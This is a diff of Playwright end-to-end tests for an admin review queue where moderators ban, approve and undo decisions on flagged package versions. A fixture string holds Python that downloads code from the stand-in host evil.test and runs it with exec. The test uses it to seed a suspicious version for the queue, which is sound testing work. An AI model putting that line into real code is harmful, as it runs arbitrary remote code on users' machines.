@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict'
-import { test } from 'node:test'
+import { describe, it } from 'node:test'
 import type { Page } from 'playwright-core'
 import { createPublisherFor, createTokenFor } from '../server/src/operator/publishers.ts'
 import { publish } from '../server/test/command-line-client.ts'
@@ -8,12 +8,12 @@ import { fitsItsWidth } from './looks.ts'
 import { menuOf, signUp } from './people.ts'
 import { type Product, useProduct } from './product.ts'
 
-const it = useProduct({}, {}, fillQueue)
+const holder = useProduct({}, {}, fillQueue)
 const waiting = 200
 const nodeId = 'soft-blur'
 const suspicious = 'import requests\n\nexec(requests.get("https://evil.test/code").text)\n'
 
-/** A queue of which the first was found suspicious by the real pipeline; the others stand in the database. */
+/** Fills the queue: the real pipeline flagged the first version, the others are only rows in the database. */
 async function fillQueue({ world, apiUrl }: Product): Promise<void> {
   const { deps } = world
   await createPublisherFor(deps, {
@@ -34,10 +34,10 @@ async function fillQueue({ world, apiUrl }: Product): Promise<void> {
   }
 }
 
-/** Signs somebody up who is an admin from then on. */
+/** Signs up a user and makes them an admin. */
 async function signUpAdmin(page: Page): Promise<void> {
   const email = await signUp(page, '/account')
-  await it.product.world.deps.db
+  await holder.product.world.deps.db
     .updateTable('users')
     .set({ is_admin: true })
     .where('email', '=', email)
@@ -45,7 +45,7 @@ async function signUpAdmin(page: Page): Promise<void> {
 }
 
 async function countOf(status: 'flagged' | 'active' | 'banned'): Promise<number> {
-  const rows = await it.product.world.deps.db
+  const rows = await holder.product.world.deps.db
     .selectFrom('node_versions')
     .select('id')
     .where('status', '=', status)
@@ -53,111 +53,116 @@ async function countOf(status: 'flagged' | 'active' | 'banned'): Promise<number>
   return rows.length
 }
 
-test('an admin comes to the dashboard by the menu; others are refused in words, and strangers log in first', async () => {
-  const { page: ofStranger } = await it.product.visit()
-  await ofStranger.goto('/admin/nodeversions')
-  await ofStranger.waitForURL('**/auth/login?fromUrl=%2Fadmin%2Fnodeversions')
+describe('the review queue', () => {
+  it('opens from the menu for admins, explains the refusal to users and asks anonymous users to log in', async () => {
+    const { page: ofStranger } = await holder.product.visit()
+    await ofStranger.goto('/admin/nodeversions')
+    await ofStranger.waitForURL('**/auth/login?fromUrl=%2Fadmin%2Fnodeversions')
 
-  const { page } = await it.product.visit()
-  await signUp(page, '/account')
-  await page.goto('/admin')
-  await page.getByRole('heading', { name: 'This page is for admins' }).waitFor()
+    const { page } = await holder.product.visit()
+    await signUp(page, '/account')
+    await page.goto('/admin')
+    await page.getByRole('heading', { name: 'This page is for admins' }).waitFor()
 
-  const { page: ofAdmin } = await it.product.visit()
-  await signUpAdmin(ofAdmin)
-  await ofAdmin.goto('/')
-  await menuOf(ofAdmin).click()
-  await ofAdmin.getByRole('link', { name: 'Admin Dashboard' }).click()
-  await ofAdmin.getByRole('heading', { level: 1, name: 'Admin Dashboard' }).waitFor()
-  await it.product.picture(ofAdmin, 'admin')
-})
-
-test('an admin clears a queue of 200 versions by keyboard, one by one and many at once, and takes decisions back', async () => {
-  const { page } = await it.product.visit()
-  await signUpAdmin(page)
-  await page.goto('/admin/nodeversions')
-  await page.getByText('200 versions').waitFor()
-  await page.getByText('helper.py').first().waitFor()
-  await page
-    .locator('.code-lines tr[data-picked] + tr')
-    .getByText('runs what comes from the network')
-    .waitFor()
-  await page.getByRole('button', { name: /^Changed pyproject\.toml/ }).click()
-  await page.locator('.split-lines').getByText('version = "1.0.0"').waitFor()
-  await page.keyboard.press('n')
-  await page.locator('.code-lines tr[data-picked]').waitFor()
-  await it.product.picture(page, 'review-queue')
-
-  const done = (text: string) => page.getByRole('region', { name: 'What became' }).getByText(text).waitFor()
-  await page.keyboard.press('r')
-  await page.getByRole('dialog').getByLabel('Reason').fill('It runs what it downloads.')
-  await page.keyboard.press('Enter')
-  await page.getByText('199 versions').waitFor()
-  for (const left of [198, 197]) {
-    await approve(page)
-    await page.getByText(`${left} versions`).waitFor()
-  }
-  await done('1 of 1 done')
-  await page.getByText('A new admin token was made').waitFor()
-  assert.deepEqual([await countOf('banned'), await countOf('active')], [1, 3])
-
-  await page.keyboard.press('Shift+ArrowDown')
-  await page.keyboard.press('Shift+ArrowDown')
-  await page.getByText('3 selected').waitFor()
-  // One key more confirms nothing: the publisher reads what a moderator wrote.
-  await page.keyboard.press('a')
-  await page.getByRole('dialog').waitFor()
-  await page.keyboard.press('Enter')
-  await page.getByRole('dialog').getByText('The versions will be listed').waitFor()
-  await page.keyboard.press('Escape')
-  await approve(page)
-  await done('3 of 3 done')
-  await it.product.picture(page, 'review-queue-batch')
-  await page.keyboard.press('u')
-  await page.getByRole('dialog').getByText('3 things are affected').waitFor()
-  await page.keyboard.press('Enter')
-  await page.getByText('197 versions').waitFor()
-  await page.waitForFunction(() => !document.body.textContent?.includes('On its way'))
-  assert.equal(await countOf('flagged'), 197)
-
-  for (const left of [100, 0]) {
-    const open = left === 100 ? 97 : 100
-    await page.getByRole('button', { name: `Select all ${open}` }).waitFor()
-    await page.keyboard.press('*')
-    await page.getByText(`${open} selected`).waitFor()
-    await approve(page)
-    await page
-      .getByText(left === 100 ? '100 versions' : 'Nothing waits here.')
-      .first()
-      .waitFor()
-  }
-  assert.deepEqual([await countOf('banned'), await countOf('active'), await countOf('flagged')], [1, 200, 0])
-  await page.keyboard.press('u')
-  await page.getByRole('dialog').getByText('100 things are affected').waitFor()
-  await page.keyboard.press('Enter')
-  await page.getByRole('button', { name: 'Select all 100' }).waitFor()
-  assert.equal(await countOf('flagged'), 100)
-
-  await page.goto('/admin/nodeversions?status=banned')
-  await page.getByText('exec(requests.get(').first().waitFor()
-})
-
-async function approve(page: Page): Promise<void> {
-  await page.keyboard.press('a')
-  await page.getByRole('dialog').getByLabel('Reason').fill('Read it: nothing but a test.')
-  await page.keyboard.press('Enter')
-}
-
-test('in Arabic, in the dark and on a phone the queue is read from the right and nothing is cut off', async () => {
-  const { page } = await it.product.visit({
-    colorScheme: 'dark',
-    viewport: { width: 390, height: 844 },
-    hasTouch: true,
+    const { page: ofAdmin } = await holder.product.visit()
+    await signUpAdmin(ofAdmin)
+    await ofAdmin.goto('/')
+    await menuOf(ofAdmin).click()
+    await ofAdmin.getByRole('link', { name: 'Admin Dashboard' }).click()
+    await ofAdmin.getByRole('heading', { level: 1, name: 'Admin Dashboard' }).waitFor()
+    await holder.product.picture(ofAdmin, 'admin')
   })
-  await signUpAdmin(page)
-  await page.goto('/ar/admin/nodeversions?status=banned,active')
-  await page.getByRole('heading', { level: 1, name: 'قائمة المراجعة' }).waitFor()
-  await page.getByRole('button', { name: 'قبول' }).first().waitFor()
-  await it.product.picture(page, 'review-queue-ar-phone')
-  await fitsItsWidth(page, 'the review queue')
+
+  it('lets an admin decide 200 versions by keyboard, individually and in bulk, and undo decisions', async () => {
+    const { page } = await holder.product.visit()
+    await signUpAdmin(page)
+    await page.goto('/admin/nodeversions')
+    await page.getByText('200 versions').waitFor()
+    await page.getByText('helper.py').first().waitFor()
+    await page
+      .locator('.code-lines tr[data-picked] + tr')
+      .getByText('runs what comes from the network')
+      .waitFor()
+    await page.getByRole('button', { name: /^Changed pyproject\.toml/ }).click()
+    await page.locator('.split-lines').getByText('version = "1.0.0"').waitFor()
+    await page.keyboard.press('n')
+    await page.locator('.code-lines tr[data-picked]').waitFor()
+    await holder.product.picture(page, 'review-queue')
+
+    const done = (text: string) => page.getByRole('region', { name: 'What became' }).getByText(text).waitFor()
+    await page.keyboard.press('r')
+    await page.getByRole('dialog').getByLabel('Reason').fill('It runs what it downloads.')
+    await page.keyboard.press('Enter')
+    await page.getByText('199 versions').waitFor()
+    for (const left of [198, 197]) {
+      await approve(page)
+      await page.getByText(`${left} versions`).waitFor()
+    }
+    await done('1 of 1 done')
+    await page.getByText('A new admin token was made').waitFor()
+    assert.deepEqual([await countOf('banned'), await countOf('active')], [1, 3])
+
+    await page.keyboard.press('Shift+ArrowDown')
+    await page.keyboard.press('Shift+ArrowDown')
+    await page.getByText('3 selected').waitFor()
+    // Repeating the key does not confirm, because the publisher reads the moderator's text.
+    await page.keyboard.press('a')
+    await page.getByRole('dialog').waitFor()
+    await page.keyboard.press('Enter')
+    await page.getByRole('dialog').getByText('The versions will be listed').waitFor()
+    await page.keyboard.press('Escape')
+    await approve(page)
+    await done('3 of 3 done')
+    await holder.product.picture(page, 'review-queue-batch')
+    await page.keyboard.press('u')
+    await page.getByRole('dialog').getByText('3 things are affected').waitFor()
+    await page.keyboard.press('Enter')
+    await page.getByText('197 versions').waitFor()
+    await page.waitForFunction(() => !document.body.textContent?.includes('On its way'))
+    assert.equal(await countOf('flagged'), 197)
+
+    for (const left of [100, 0]) {
+      const open = left === 100 ? 97 : 100
+      await page.getByRole('button', { name: `Select all ${open}` }).waitFor()
+      await page.keyboard.press('*')
+      await page.getByText(`${open} selected`).waitFor()
+      await approve(page)
+      await page
+        .getByText(left === 100 ? '100 versions' : 'Nothing waits here.')
+        .first()
+        .waitFor()
+    }
+    assert.deepEqual(
+      [await countOf('banned'), await countOf('active'), await countOf('flagged')],
+      [1, 200, 0],
+    )
+    await page.keyboard.press('u')
+    await page.getByRole('dialog').getByText('100 things are affected').waitFor()
+    await page.keyboard.press('Enter')
+    await page.getByRole('button', { name: 'Select all 100' }).waitFor()
+    assert.equal(await countOf('flagged'), 100)
+
+    await page.goto('/admin/nodeversions?status=banned')
+    await page.getByText('exec(requests.get(').first().waitFor()
+  })
+
+  async function approve(page: Page): Promise<void> {
+    await page.keyboard.press('a')
+    await page.getByRole('dialog').getByLabel('Reason').fill('Read it: nothing but a test.')
+    await page.keyboard.press('Enter')
+  }
+
+  it('fits a phone in Arabic and the dark theme, from right to left', async () => {
+    const { page } = await holder.product.visit({
+      colorScheme: 'dark',
+      viewport: { width: 390, height: 844 },
+      hasTouch: true,
+    })
+    await signUpAdmin(page)
+    await page.goto('/ar/admin/nodeversions?status=banned,active')
+    await page.getByRole('heading', { level: 1, name: 'قائمة المراجعة' }).waitFor()
+    await page.getByRole('button', { name: 'قبول' }).first().waitFor()
+    await holder.product.picture(page, 'review-queue-ar-phone')
+    await fitsItsWidth(page, 'the review queue')
+  })
 })
